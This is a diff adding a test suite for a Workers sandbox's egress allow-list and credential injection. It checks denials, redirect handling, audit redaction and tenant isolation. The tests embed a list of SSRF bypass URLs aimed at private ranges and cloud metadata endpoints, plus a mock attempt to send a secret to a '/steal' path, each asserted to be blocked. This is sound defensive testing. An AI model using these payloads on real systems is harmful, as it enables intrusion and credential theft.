@@ -1,0 +1,191 @@
+import { env } from "cloudflare:workers";
+import { describe, expect, it } from "vitest";
+import { call, execute, executeRejected, expectFailure, expectOk, OTHER_TENANT_KEY } from "../helpers.ts";
+
+const upstream = env.DWL_TEST_UPSTREAM as string;
+const upstreamHost = new URL(upstream).host; // 127.0.0.1:<port>
+const otherHost = `localhost:${new URL(upstream).port}`; // same server, another host name
+const unique = () => crypto.randomUUID().slice(0, 8);
+
+async function seen(path: string): Promise<{ headers: Record<string, string>; body: string } | null> {
+  return (await fetch(`${upstream}/__seen?path=${encodeURIComponent(path)}`)).json();
+}
+
+async function putCredential(name: string, body: object, key?: string): Promise<Response> {
+  return call(`/credentials/${name}`, { method: "PUT", body: JSON.stringify(body), ...(key ? { key } : {}) });
+}
+
+describe("egress policy", () => {
+  it("denies by default, naming the host and the rule", async () => {
+    const res = expectFailure(await execute({ code: `export default () => fetch("${upstream}/x")` }));
+    expect(res.error).toMatchObject({ type: "egress_denied", name: "EgressDeniedError" });
+    expect(res.error.message).toContain("127.0.0.1");
+    expect(res.error.message).toContain("egress.allow");
+    expect(res.egress).toEqual([expect.objectContaining({ method: "GET", url: `${upstream}/x`, denied: res.error.message })]);
+  });
+
+  it("lets the program catch a denial and go on", async () => {
+    const res = expectOk(await execute({ code: `export default async () => { try { await fetch("https://api.example.com/"); } catch (e) { return e.name; } }` }));
+    expect(res.result).toBe("EgressDeniedError");
+  });
+
+  it("allows a listed host and audits the call", async () => {
+    const path = `/allowed-${unique()}`;
+    const res = expectOk(
+      await execute({ code: `export default async () => { const r = await fetch("${upstream}${path}", { method: "POST", body: "hi" }); return [r.status, (await r.json()).body, r.headers.get("x-dwl-egress")]; }`, egress: { allow: [upstreamHost] } }),
+    );
+    expect(res.result).toEqual([200, "hi", null]); // the upstream's forged x-dwl-egress header is stripped
+    expect(res.egress).toEqual([expect.objectContaining({ method: "POST", url: `${upstream}${path}`, status: 200 })]);
+  });
+
+  it("refuses a port the rule does not name", async () => {
+    const res = expectFailure(await execute({ code: `export default () => fetch("${upstream}/")`, egress: { allow: ["127.0.0.1"] } }));
+    expect(res.error.type).toBe("egress_denied");
+    expect(res.error.message).toContain("port");
+  });
+
+  const ssrf = [
+    "http://167772161/",
+    "http://0x0a000001/",
+    "http://012.0.0.1/",
+    "http://10.1/",
+    "http://10.0.0.1./",
+    "http://a@10.0.0.1/",
+    "http://169.254.169.254/latest/meta-data/",
+    "http://0xa9fea9fe/",
+    "http://[::ffff:a9fe:a9fe]/",
+    "http://[fd00:ec2::254]/",
+    "http://[fc00::1]/",
+    "http://[fe80::1]/",
+    "http://0.0.0.0/",
+    "http://192.168.1.1/",
+    "http://172.16.0.1/",
+    "http://100.64.0.1/",
+    "http://metadata.google.internal/",
+  ];
+  it.each(ssrf)("refuses %s even when * is allowed", async (url) => {
+    const res = expectFailure(await execute({ code: `export default () => fetch(${JSON.stringify(url)})`, egress: { allow: ["*"] } }));
+    expect(res.error.type).toBe("egress_denied");
+  });
+
+  it("refuses schemes other than http and https", async () => {
+    const res = expectOk(await execute({ code: `export default async () => { try { await fetch("ftp://example.com/x"); } catch (e) { return e.message; } }`, egress: { allow: ["*"] } }));
+    expect(String(res.result)).toMatch(/ftp|scheme|http/i);
+  });
+
+  it("answers an invalid allow rule with 400 naming the entry", async () => {
+    const { status, body } = await executeRejected({ code: "1", egress: { allow: ["ok.example.com", "https://bad/path"] } });
+    expect(status).toBe(400);
+    expect(body.error.issues?.[0]?.path).toEqual(["egress", "allow", 1]);
+  });
+});
+
+describe("credentials", () => {
+  it("stores, lists (without values) and deletes credentials per tenant", async () => {
+    const name = `c${unique()}`;
+    expect((await putCredential(name, { value: "top-secret-value", hosts: ["api.example.com"] })).status).toBe(200);
+    const list = await (await call("/credentials")).text();
+    expect(list).toContain(name);
+    expect(list).not.toContain("top-secret-value");
+    expect(JSON.parse(list).credentials.find((c: { name: string }) => c.name === name)).toMatchObject({ hosts: ["api.example.com"], header: "authorization" });
+    expect(await (await call("/credentials", { key: OTHER_TENANT_KEY })).text()).not.toContain(name);
+    expect((await call(`/credentials/${name}`, { method: "DELETE" })).status).toBe(204);
+    expect((await call(`/credentials/${name}`, { method: "DELETE" })).status).toBe(404);
+  });
+
+  it("rejects bad credential requests naming the field", async () => {
+    const res = await putCredential("x", { value: "v", hosts: ["*"] });
+    expect(res.status).toBe(400);
+    expect(((await res.json()) as { error: { issues: { path: string[] }[] } }).error.issues[0]?.path).toEqual(["hosts"]);
+    expect((await putCredential("bad name", { value: "v", hosts: ["a.com"] })).status).toBe(400);
+    expect((await putCredential("x", { value: "line\nbreak", hosts: ["a.com"] })).status).toBe(400);
+  });
+
+  it("answers an unknown credential name with 400", async () => {
+    const { status, body } = await executeRejected({ code: "1", egress: { credentials: ["does-not-exist"] } });
+    expect(status).toBe(400);
+    expect(body.error.issues?.[0]?.path).toEqual(["egress", "credentials", 0]);
+  });
+
+  it("injects the credential upstream, where the program cannot see it", async () => {
+    const name = `gh${unique()}`;
+    await putCredential(name, { value: "s3cret-token-value", hosts: [upstreamHost] });
+    const path = `/inject-${unique()}`;
+    const res = expectOk(
+      await execute({
+        code: `export default async (_, env) => {
+          const req = new Request("${upstream}${path}", { headers: { authorization: "Bearer forged-by-program" } });
+          const r = await fetch(req);
+          return { status: r.status, requestHeaders: [...req.headers], env: JSON.stringify(env), secrets: env.SECRETS };
+        }`,
+        egress: { credentials: [name] },
+      }),
+    );
+    expect((await seen(path))?.headers.authorization).toBe("Bearer s3cret-token-value");
+    const observable = JSON.stringify(res);
+    expect(observable).not.toContain("s3cret-token-value");
+    expect(res.egress).toEqual([expect.objectContaining({ status: 200, credentials: [name] })]);
+  });
+
+  it("swaps a placeholder for the value only on the credential's hosts", async () => {
+    const name = `ph${unique()}`;
+    await putCredential(name, { value: "placeholder-backed-secret", hosts: [upstreamHost], header: "x-api-key", format: "{value}" });
+    const path = `/placeholder-${unique()}`;
+    const ok = expectOk(
+      await execute({ code: `export default async (_, env) => (await fetch("${upstream}${path}", { headers: { "x-token": "token " + env.SECRETS["${name}"] } })).status`, egress: { credentials: [name] } }),
+    );
+    expect(ok.result).toBe(200);
+    expect((await seen(path))?.headers["x-token"]).toBe("token placeholder-backed-secret");
+
+    const smuggle = expectFailure(
+      await execute({
+        code: `export default async (_, env) => fetch("http://${otherHost}/steal", { headers: { "x-token": env.SECRETS["${name}"] } })`,
+        egress: { credentials: [name], allow: [otherHost] },
+      }),
+    );
+    expect(smuggle.error.type).toBe("egress_denied");
+    expect(await seen("/steal")).toBeNull();
+  });
+
+  it("drops the credential when a redirect leads to another host", async () => {
+    const name = `rd${unique()}`;
+    await putCredential(name, { value: "redirect-secret", hosts: [upstreamHost] });
+    const final = `/final-${unique()}`;
+    const res = expectOk(
+      await execute({
+        code: `export default async () => (await fetch("${upstream}/redirect?to=${encodeURIComponent(`http://${otherHost}${final}`)}")).status`,
+        egress: { credentials: [name], allow: [otherHost] },
+      }),
+    );
+    expect(res.result).toBe(200);
+    const arrived = await seen(final);
+    expect(arrived).not.toBeNull();
+    expect(arrived?.headers.authorization).toBeUndefined();
+  });
+
+  it("refuses a redirect to a host outside the policy", async () => {
+    const res = expectFailure(
+      await execute({ code: `export default () => fetch("${upstream}/redirect?to=${encodeURIComponent("http://169.254.169.254/")}")`, egress: { allow: [upstreamHost] } }),
+    );
+    expect(res.error.type).toBe("egress_denied");
+  });
+
+  it("does not decrypt a ciphertext copied to another tenant", async () => {
+    const name = `mv${unique()}`;
+    await putCredential(name, { value: "tenant-bound-secret", hosts: [upstreamHost] });
+    const stored = await env.KV.get(`__dwl/credentials/local/${name}`);
+    await env.KV.put(`__dwl/credentials/other/${name}`, stored ?? "");
+    const path = `/moved-${unique()}`;
+    // The copy does not open, so the credential (and the hosts it would grant) is not there.
+    const res = expectFailure(await execute({ code: `export default async () => (await fetch("${upstream}${path}")).status`, egress: { credentials: [name] } }, OTHER_TENANT_KEY));
+    expect(res.error.type).toBe("egress_denied");
+    expect(await seen(path)).toBeNull();
+  });
+
+  it("redacts query values of credential-bearing requests in the audit", async () => {
+    const name = `q${unique()}`;
+    await putCredential(name, { value: "v-for-query", hosts: [upstreamHost] });
+    const res = expectOk(await execute({ code: `export default async () => (await fetch("${upstream}/q?token=abc&x=1")).status`, egress: { credentials: [name] } }));
+    expect(res.egress[0]?.url).toBe(`${upstream}/q?token=REDACTED&x=REDACTED`);
+  });
+});
